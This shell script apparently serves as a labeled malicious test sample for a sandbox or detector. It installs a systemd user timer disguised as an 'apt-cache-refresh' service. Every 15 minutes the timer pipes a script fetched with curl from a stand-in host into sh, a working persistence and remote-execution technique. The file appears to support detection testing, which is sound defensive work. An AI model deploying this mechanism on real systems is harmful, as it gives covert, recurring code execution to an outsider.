#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: schedules a payload with a systemd timer (T1053.006).
# Inert: the payload prints a line; the units live in $HOME.
unit="$HOME/.config/systemd/user"
mkdir -p "$unit"
cat > "$unit/apt-cache-refresh.service" <<UNIT
[Unit]
Description=Refresh package cache

[Service]
Type=oneshot
ExecStart=/bin/sh -c 'curl -fsS http://update.example.test/r.sh | sh'
UNIT
cat > "$unit/apt-cache-refresh.timer" <<UNIT
[Unit]
Description=Refresh package cache every 15 minutes

[Timer]
OnBootSec=2min
OnUnitActiveSec=15min
Persistent=true

[Install]
WantedBy=timers.target
UNIT
systemctl --user daemon-reload 2>/dev/null
systemctl --user enable --now apt-cache-refresh.timer 2>/dev/null || echo "systemctl --user: unavailable"
systemctl --user list-timers 2>/dev/null | head -n 3
exit 0
